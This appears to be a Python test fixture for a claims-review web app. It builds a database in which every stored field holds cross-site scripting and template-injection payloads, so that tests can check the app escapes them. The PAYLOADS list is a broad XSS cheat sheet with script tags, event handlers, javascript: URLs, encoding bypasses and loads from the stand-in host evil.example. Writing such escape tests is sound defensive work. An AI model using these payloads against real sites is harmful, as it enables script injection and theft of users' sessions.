"""A desk in which every text that somebody could write is an attack on whoever reads it.

``build(path)`` makes the database past all checks of the API; whatever ran would set ``window.pwned``, open a dialog
or ask ``evil.example`` for something.
"""

from __future__ import annotations

from contextlib import closing
from dataclasses import replace
from pathlib import Path

from reviewed import Desk, at_work
from world import said

from datasette_claims.changes import decide
from datasette_claims.database import saved
from datasette_claims.database.opening import open_for_writing, transaction
from datasette_claims.database.storing import Stamp, begin_run, finish_run, store
from datasette_claims.desk import repeats, reviewing
from datasette_claims.desk.reviewing import Judgement
from datasette_claims.identity import article_key, claim_keys, digest, speaker_key
from datasette_claims.model import Article, Bearing, Claim, Evidence
from datasette_claims.review import Aspect

SUM = "7919*7907"
"""A template that runs this says 62615533."""

PAYLOADS = (
    "<script>pwned=1</script>",
    "<ScRiPt>pwned=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/x>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "</style><script>pwned=1</script>",
    "--><script>pwned=1</script>",
    "<!--><script>pwned=1</script>-->",
    "--!><img src=x onerror=pwned=1>",
    "<![CDATA[<script>pwned=1</script>]]>",
    "]]><script>pwned=1</script>",
    "<?xml version='1.0'?><script>pwned=1</script>",
    "<<script>pwned=1;//<</script>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "<img src=x onerror=pwned=1>",
    '<img src=x:x onerror="pwned=1">',
    "<img/src=x/onerror=pwned=1>",
    "<IMG SRC=x ONERROR=&#112;wned=1>",
    "<svg onload=pwned=1>",
    "<svg/onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:pwned=1"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned=1>#x">',
    '<math><mi xlink:href="javascript:pwned=1">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
    "<body onload=pwned=1>",
    '<iframe srcdoc="<script>parent.pwned=1</script>">',
    '<iframe src="javascript:parent.pwned=1">',
    '<object data="javascript:pwned=1">',
    "<embed src=//evil.example/x.swf>",
    "<video><source onerror=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<input autofocus onfocus=pwned=1>",
    "<select autofocus onfocus=pwned=1>",
    "<div onmouseover=pwned=1 style=position:fixed;inset:0>",
    '<form action="javascript:pwned=1"><button>x',
    '<button form=x formaction="javascript:pwned=1">',
    '<meta http-equiv=refresh content="0;url=javascript:pwned=1">',
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<template><script>pwned=1</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
    "<xss style=animation-name:x onanimationstart=pwned=1>",
    '<a href="javascript:pwned=1">x</a>',
    '" onmouseover="pwned=1',
    "' onmouseover='pwned=1",
    '"><script>pwned=1</script>',
    "'><script>pwned=1</script>",
    '" autofocus onfocus="pwned=1',
    "` onmouseover=`pwned=1",
    "javascript:pwned=1",
    "JaVaScRiPt:pwned=1",
    "java\tscript:pwned=1",
    "\x01javascript:pwned=1",
    "javascript://evil.example/%0Apwned=1",
    "data:text/html,<script>parent.pwned=1</script>",
    "vbscript:pwned=1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "[x](javascript:pwned=1)",
    "{{" + SUM + "}}{{ ''.__class__.__mro__ }}",
    "{% raw %}<script>pwned=1</script>{% endraw %}",
    "${" + SUM + "}#{" + SUM + "}<%= " + SUM + " %>",
    "\uff1cscript\uff1epwned=1\uff1c/script\uff1e",
    "\u2028<script>pwned=1</script>\u2029",
    "\u202e<script>pwned=1</script>",
    "\ufeff<script>pwned=1</script>",
    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;script&#62;pwned=1&#60;/script&#62;",
    "%3Cscript%3Epwned=1%3C/script%3E",
    "x{background:url(javascript:pwned=1)} @import url(//evil.example/x);",
    "<script>pwned=1//",
    "<!-- <img src='",
)
ALL = " · ".join(PAYLOADS)
TEXT = f"„{ALL}“, rief {ALL}."


def _claim(text: str, payload: str) -> Claim:
    return said(text, payload, cue=("rief", "rufen"), mention=("rief", payload), speaker=payload)


def _article(text: str, payload: str) -> Article:
    return Article(
        text=text,
        title=payload,
        origin=payload,
        raw_sha256="0" * 64,
        place=payload,
        agency=payload,
        published=payload,
        language="de",
        authors=(payload,),
        warnings=(payload,),
    )


_SMALL = [(f"{place}: „{payload}“, rief {payload}.", payload) for place, payload in enumerate(PAYLOADS)]
ARTICLE = article_key(TEXT)
(CLAIM,) = claim_keys(ARTICLE, (_claim(TEXT, ALL),))
"""The article and the claim that hold all of ``PAYLOADS``; each has an article of its own besides."""
REPEATS = [claim_keys(article_key(text), (_claim(text, payload),))[0] for text, payload in _SMALL]
DISPUTED, WITHDRAWN = REPEATS[:2]
SPEAKER, GROUP = speaker_key(ALL), "g" + digest(CLAIM)[:16]


def _evidence(payload: str) -> Evidence:
    return Evidence(
        "",
        Bearing.REFUTES,
        url=payload,
        title=payload,
        publisher=payload,
        quote=payload,
        published_at=payload,
        retrieved_at=payload,
        archive_url=payload,
        archived_at=payload,
        content_sha256=payload,
    )


_JUDGED = Judgement(
    {Aspect.VERACITY: "false", Aspect.ATTRIBUTION: "verbatim"},
    summary=ALL,
    rationale=ALL,
    as_of=ALL,
    evidence=tuple(map(_evidence, PAYLOADS)),
)


def build(path: Path) -> Path:
    """Make the database at ``path``."""
    with closing(open_for_writing(path)) as connection, transaction(connection, path):
        stamp = Stamp(begin_run(connection, ALL, ALL, "2026-01-02T03:04:05Z"), "2026-01-02T03:04:05Z")
        for text, payload in [(TEXT, ALL), *_SMALL]:
            store(connection, decide(_article(text, payload), (_claim(text, payload),), None), stamp)
        finish_run(connection, stamp)
    with at_work(path) as desk:
        for first, second in zip(PAYLOADS[::2], PAYLOADS[1::2], strict=True):
            desk.take(first, "12T09:00", reviewing.reject, CLAIM, "opinion", first)
            desk.take(second, "12T10:00", reviewing.reopen, CLAIM, second)
        _judge(desk)
    with closing(open_for_writing(path)) as connection:
        with transaction(connection, path):
            for payload in PAYLOADS:
                connection.execute("INSERT INTO speaker_aliases VALUES (?, ?, 'manual')", [SPEAKER, payload])
                saved.keep(connection, saved.Saved(payload, f"text={payload}&{payload}", payload, payload))
                place = [article_key(TEXT), payload, payload, payload, payload, payload, payload]
                connection.execute("INSERT INTO appearances VALUES (?, ?, ?, ?, ?, ?, ?)", place)
            fate = [article_key(TEXT), ALL, ALL, ALL]
            for key, what in ((CLAIM, "gone"), (ALL, "kept")):
                connection.execute(f"INSERT INTO run_changes VALUES (1, ?, ?, '{what}', ?, ?, ?, 1)", [key, *fate])
            wrong = [ALL, ALL, ALL, ALL, "", "2026-01-02T03:04:05Z"]
            sql = (
                "INSERT INTO load_errors (origin, error, reason, raw_sha256, resolved_at, at) VALUES (?, ?, ?, ?, ?, ?)"
            )
            connection.execute(sql, wrong)
            connection.execute("UPDATE speakers SET wikidata_id = ?, gnd_id = ? WHERE id = ?", [ALL, ALL, SPEAKER])
            connection.execute("UPDATE rating_values SET label_de = ?, label_en = ?, hotkey = '<'", [ALL, ALL])
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        connection.execute("PRAGMA journal_mode = DELETE")
    return path


def _judge(desk: Desk) -> None:
    desk.take(ALL, "13T09:00", reviewing.answer, CLAIM, _JUDGED)
    desk.take(ALL, "13T10:00", reviewing.publish, CLAIM, Judgement())
    other = replace(_JUDGED, ratings={Aspect.VERACITY: "opinion"}, summary=f"{ALL}!", evidence=())
    desk.take(ALL, "13T11:00", reviewing.correct, CLAIM, other, ALL)
    desk.take(ALL, "14T09:00", reviewing.triage, DISPUTED, 2)
    desk.take(ALL, "14T10:00", reviewing.answer, DISPUTED, _JUDGED)
    desk.take(PAYLOADS[0], "14T11:00", reviewing.answer, DISPUTED, other)
    desk.take(ALL, "15T09:00", reviewing.answer, WITHDRAWN, _JUDGED)
    desk.take(ALL, "15T10:00", reviewing.publish, WITHDRAWN, Judgement())
    desk.take(ALL, "15T11:00", reviewing.withdraw, WITHDRAWN, ALL)
    for payload, claim in zip(PAYLOADS, REPEATS, strict=True):
        desk.take(payload, "16T09:00", repeats.confirm, claim, CLAIM)
